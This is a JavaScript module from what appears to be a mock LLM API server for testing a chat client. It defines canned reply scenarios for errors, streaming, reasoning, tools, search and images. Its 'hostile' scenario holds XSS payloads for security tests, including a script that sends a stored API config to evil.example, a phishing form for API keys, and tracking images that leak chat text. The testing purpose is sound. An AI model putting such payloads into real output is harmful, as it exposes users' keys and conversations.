// @ts-check
/**
 * Scenarios, chosen by the API key: the part before the first '.', e.g. `ok.test42` → `ok`. The
 * tool scenarios are written in tools.mjs, the web search ones in web-search.mjs, code execution
 * and images in code-images.mjs, the bench's long answer with both in openai-researched.mjs; what
 * the voice endpoints hear and say in voice.mjs.
 */

import { attachmentsReply } from './attachments.mjs';
import { markdownReasoning, markdownReply, richReply } from './markdown.mjs';
import { tokenize } from './tokens.mjs';

/** @type {Readonly<Record<string, string>>} */
export const scenarioHelp = {
  ok: "Echo: <last user message> (<n> messages received); a transcription of any valid audio: 'What is the capital of France?' (voice.mjs; so in every scenario but silent)",
  numbered: 'Reply <n> to: <last user message>, n counting the calls made with this key (regenerate, edit)',
  slow: 'a long reply at 200 ms per token; speech audio (voice.mjs) in pieces 200 ms apart',
  silent:
    'a transcription hears no speech: an empty transcript "" (voice.mjs), as for a recording of silence; otherwise as ok',
  markdown: 'a ~1500-token markdown reply (headings, lists, table, code blocks)',
  long: 'a ~6000-token markdown reply',
  utf8: 'emoji, CJK and accented text; a multi-byte character split across two socket writes',
  drop: 'streams a few tokens, then destroys the socket',
  'error-event': "a few tokens, then a mid-stream error in the provider's own form",
  blocked: 'Gemini: prompt blocked (SAFETY); Claude: refusal; others: finish_reason content_filter',
  'blocked-late': 'Gemini: some text, then finishReason SAFETY; others as blocked',
  'http-400': "400 with the provider's error JSON",
  'http-401': '401',
  'http-403': '403',
  'http-404': '404 (unknown model or deployment)',
  'http-429': "429 with retry-after and the provider's rate-limit wording",
  'http-500': '500',
  'http-503': '503',
  'http-529': '529 (Anthropic overloaded)',
  retired:
    "a chat with a model retired upstream (as on 2026-11-26) gets the provider's own answer for it: OpenAI 404 model_not_found 'has been deprecated', Anthropic 404 not_found_error, Gemini 404 NOT_FOUND 'no longer available', Groq 400 model_decommissioned; OpenAI's model list leaves those models out; other models Echo",
  hostile: 'a reply carrying XSS payloads and a remote tracking image (security tests)',
  'no-cors': 'a normal reply without any CORS header, so a browser refuses it',
  'reasoning-model':
    'OpenAI/Azure: any model acts as a reasoning model (400 for max_tokens, temperature other than 1, top_p, penalties); Claude: as a model with fixed sampling (400 for temperature); then Echo',
  thinking:
    'reasoning first, then Echo: Claude thinking and redacted_thinking blocks (when the request turns thinking on), Gemini thought parts (includeThoughts), Groq per reasoning_format, local reasoning_content; OpenAI/Azure count reasoning tokens only',
  'slow-thinking': 'as thinking, at 150 ms per streamed chunk, so the live thinking can be watched',
  'long-rich': 'as rich, followed by ~5000 tokens of markdown (bench)',
  rich: '20 formulas ($…$, $$…$$, \\(…\\), \\[…\\]) and two Mermaid diagrams, then "That is all."',
  'long-thinking':
    'as thinking, with ~2000 tokens of markdown reasoning, then a ~4000-token markdown reply (bench)',
  'long-researched':
    'OpenAI Responses with web_search and image_generation tools (openai-researched.mjs): one search, the long reply with 30 url_citation annotations (30 pages), a ~2 MB picture with its previews drawn after the first third; otherwise as long (bench)',
  'think-tags':
    'local server and Groq: the reasoning inside a leading <think>…</think> in content; others as thinking',
  length:
    'a few tokens, then the token limit: finish_reason length, stop_reason max_tokens, finishReason MAX_TOKENS, response.incomplete',
  unverified:
    'OpenAI Responses: reasoning.summary gets the unverified-organization 400; without it, Echo (every /v1/responses scenario reasons)',
  'stream-only': "Echo when streamed; a call with streaming off gets a 500 in the provider's error form",
  repeat:
    'the last user message is a recipe, {"repeat": TEXT, "times": N, "then": TEXT} (TEXT repeated N times, then the rest) or {"line": TEXT, "lines": N, "indent": K} (N lines of TEXT, line i indented by i×K spaces): the reply, streamed in 100 pieces (hostile-input tests)',
  tools:
    'tool calling (tools offered, last turn the user\'s text): the model calls the first tool offered with its first string parameter set to the user\'s text, or as a recipe in the user\'s text says, {"call": NAME (no arguments) | {"name": NAME, "arguments": {…} | "<raw JSON>"} | [several, in parallel], "text": TEXT said first, "rounds": N}; once tool results follow, it answers "Tool results: NAME: CONTENT; …" (after N rounds of results). Claude with thinking on sends signed thinking first; Gemini 3 signs the first functionCall. No tools, or tool_choice none: Echo',
  'tools-thinking':
    'as tools, reasoning first as in thinking: Claude a signed thinking block before tool_use (when the request turns thinking on), Gemini thought parts and a thoughtSignature on the first functionCall, Responses reasoning items',
  'tools-failed':
    "Groq: the model's tool call fails, 400 tool_use_failed with failed_generation, streamed or not; others as tools",
  'tools-failed-late':
    'Groq: the tool call fails inside a 200 stream, as event: error with tool_use_failed (not streamed: the 400); others as tools',
  attachments:
    'what the last user message carried: "Received:", then per item "- image image/png 640×480", "- pdf report.pdf 12345 bytes", "- text NAME" (each <file name="NAME"> block), then "- message: <the rest of the text>"',
  search:
    "the providers' own web search (web-search.mjs), when the request asks for it (Responses web_search tool, a Chat Completions *-search-preview model, Claude's web_search tool, Gemini googleSearch, a Groq compound model): searches, then a fixed answer on the tallest mountain citing three pages. Otherwise Echo",
  'search-pause':
    'Claude: as search, but the turn pauses (stop_reason pause_turn) after the first search; a request that sends that assistant turn back continues it (400 when its search blocks are missing or changed). Others as search',
  'search-failed':
    "Claude: the second search fails (web_search_tool_result_error max_uses_exceeded, as with max_uses 1 under search) and the answer's last sentence is uncited. Others as search",
  'search-disabled':
    'Claude: a request with the web_search tool gets a 400 invalid_request_error, web search not enabled for the organization (wording unverified); without it, Echo. Others as search',
  code: "the providers' own code execution (code-images.mjs), when the request offers it (Gemini codeExecution, a Responses code_interpreter tool, Claude's code_execution tool; a Groq compound model runs it unasked): the model runs a fixed Python program (prints 55, writes squares.csv, plots four coloured squares), then answers 'The sum of the first five squares is 55. I saved the table and plotted it.'. Otherwise Echo",
  'code-failed':
    "as code, but the program raises ZeroDivisionError: Gemini OUTCOME_FAILED, Claude return_code 1 with the traceback on stderr, Responses logs with the traceback, Groq compound output with the traceback; no file or plot; answer 'The code failed: it divided by zero, so there is no result.'. Otherwise Echo",
  'code-unavailable':
    "Claude: the code execution tool itself fails (bash_code_execution_tool_result_error, or code_execution_tool_result_error on code_execution_20250522, error_code unavailable; a 200), answer 'Code execution is unavailable right now, so I could not run the program.'. Others as code",
  'image-slow':
    "as image, the key's first reply at 300 ms per streamed chunk, so the previews of a picture being drawn can be watched; its later replies at the usual pace",
  image:
    "image generation (code-images.mjs), when the request asks for it (a Gemini *-image model with responseModalities IMAGE, a Responses image_generation tool): 'Here is the picture: four coloured squares.' and a PNG of four coloured squares. Otherwise Echo",
};

export const scenarioNames = Object.keys(scenarioHelp);

/**
 * The scenario a key selects; undefined for any other key (treated as a bad key).
 * @param {string} key
 */
export function scenarioOf(key) {
  const name = key.split('.')[0] ?? '';
  return scenarioNames.includes(name) ? name : undefined;
}

/** Whether a scenario reasons before it answers (the Responses API always does). @param {string} scenario */
export const thinks = (scenario) => thinksApart(scenario) || scenario === 'think-tags';

/** Reasoning in its own field (not in tags). @param {string} scenario */
export const thinksApart = (scenario) =>
  scenario === 'thinking' ||
  scenario === 'slow-thinking' ||
  scenario === 'long-thinking' ||
  scenario === 'tools-thinking';

/**
 * The reasoning streamed before the reply: a few sentences of markdown, the same for the same question.
 * @param {{ lastUserText: string, messageCount: number }} conversation
 */
export function reasoningText({ lastUserText, messageCount }, scenario = '') {
  if (scenario === 'long-thinking') return markdownReasoning(2000);
  return `**Reading the question**\n\nThe user wrote: ${lastUserText}. I will echo it back with the message count (${messageCount}).`;
}

/** Reasoning inside a leading <think>…</think> in the content, each tag a piece of its own. @param {string[]} reasoning @param {string[]} answer */
export const inThinkTags = (reasoning, answer) => ['<think>', ...reasoning, '</think>', '\n\n', ...answer];

/** @param {string} scenario @returns {number | undefined} */
export function httpStatusOf(scenario) {
  const match = /^http-(\d{3})$/.exec(scenario);
  return match ? Number(match[1]) : undefined;
}

export const utf8Reply =
  'UTF-8 check: café, naïve, Ærøskøbing, Ελληνικά, Привет; 日本語のテキスト, 中文字符, 한국어; ' +
  'emoji 😀 🎉 👩‍💻 🇯🇵; math ∑ ∫ √ ≠ ≤; done ✓';

export const hostileReply = [
  'Here is the content you asked for.',
  '',
  '<script>window.__xss = "script"; fetch("https://evil.example/steal?k=" + localStorage.getItem("ai-chat-config"))</script>',
  '',
  '<img src="x" onerror="window.__xss = \'img-onerror\'">',
  '',
  "[Click to continue](javascript:window.__xss='md-link')",
  '',
  '<a href="javascript:window.__xss=\'html-link\'">Open details</a>',
  '',
  '<iframe srcdoc="<script>parent.__xss=\'iframe\'</script>"></iframe>',
  '',
  '<svg onload="window.__xss=\'svg\'"><circle r="5"></circle></svg>',
  '',
  '<details open ontoggle="window.__xss=\'details\'"><summary>More</summary>hidden</details>',
  '',
  '<a href="data:text/html,<script>window.__xss=\'data-url\'</script>">Data link</a>',
  '',
  '<form action="https://evil.example/phish"><input name="key" placeholder="Paste your API key"></form>',
  '',
  '<style>body { display: none }</style>',
  '',
  '![status](https://evil.example/leak?x=chat-text-from-markdown)',
  '',
  '<img src="https://evil.example/leak?x=chat-text-from-html" alt="tracker">',
  '',
  'End of reply.',
].join('\n');

const slowReply =
  'This is a slow reply, streamed one small piece at a time so that you can stop it midway. ' +
  'It keeps going for a while: the quick brown fox jumps over the lazy dog, again and again, ' +
  'while the user decides whether to press Stop. Every piece takes two hundred milliseconds. ' +
  'If you are reading this sentence, the stream is still running and the partial reply should ' +
  'be kept when it is stopped. The end.';

/**
 * The reply text of a scenario for a conversation.
 * @param {string} scenario
 * @param {Pick<import('./wire.mjs').Conversation, 'lastUserText' | 'messageCount' | 'attachments'>} conversation
 * @param {number} callNumber this key's chat calls so far, this one included
 */
export function replyText(scenario, { lastUserText, messageCount, attachments }, callNumber) {
  switch (scenario) {
    case 'attachments':
      return attachmentsReply(attachments ?? []);
    case 'numbered':
      return `Reply ${callNumber} to: ${lastUserText}`;
    case 'slow':
      return slowReply;
    case 'markdown':
      return markdownReply(1500);
    case 'long':
    case 'long-researched':
      return markdownReply(6000);
    case 'long-thinking':
      return markdownReply(4000);
    case 'rich':
      return richReply();
    case 'long-rich':
      return richReply(5000);
    case 'utf8':
      return utf8Reply;
    case 'hostile':
      return hostileReply;
    case 'repeat':
      return repeatedReply(lastUserText);
    default:
      return `Echo: ${lastUserText} (${messageCount} ${messageCount === 1 ? 'message' : 'messages'} received)`;
  }
}

/**
 * A reply of any size from a short recipe, so a test sends a few bytes and the model "prints" a
 * hostile megabyte. A message that is not a recipe is echoed as it is.
 * @param {string} recipe
 */
function repeatedReply(recipe) {
  try {
    const { repeat, times, then = '', line, lines, indent = 0 } = JSON.parse(recipe);
    if (typeof repeat === 'string' && Number.isSafeInteger(times) && typeof then === 'string')
      return repeat.repeat(Math.min(times, 10_000_000)) + then;
    if (typeof line === 'string' && Number.isSafeInteger(lines) && Number.isSafeInteger(indent))
      return Array.from({ length: Math.min(lines, 100_000) }, (_, at) => ' '.repeat(at * indent) + line).join(
        '\n',
      );
  } catch {
    // Not a recipe.
  }
  return recipe;
}

/**
 * The pieces a scenario's reply streams in: word-sized, or 100 equal ones for `repeat` (a reply of
 * a megabyte would take hours at a word a chunk).
 * @param {string} scenario
 * @param {string} text
 * @returns {string[]}
 */
export function replyPieces(scenario, text) {
  if (scenario !== 'repeat') return tokenize(text);
  const characters = Array.from(text);
  const size = Math.max(1, Math.ceil(characters.length / 100));
  const pieces = [];
  for (let at = 0; at < characters.length; at += size) pieces.push(characters.slice(at, at + size).join(''));
  return pieces;
}
